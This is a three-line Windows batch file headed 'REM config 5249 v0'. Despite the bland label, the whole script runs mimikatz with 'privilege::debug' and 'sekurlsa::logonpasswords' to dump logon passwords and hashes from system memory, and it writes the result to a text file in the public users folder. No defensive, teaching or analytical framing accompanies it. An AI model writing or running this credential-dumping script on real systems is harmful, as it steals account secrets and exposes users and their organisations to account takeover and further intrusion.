REM config 5249 v0
@echo off
set zlmy=mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" ^> C:\Users\Public\m.txt
call %zlmy%
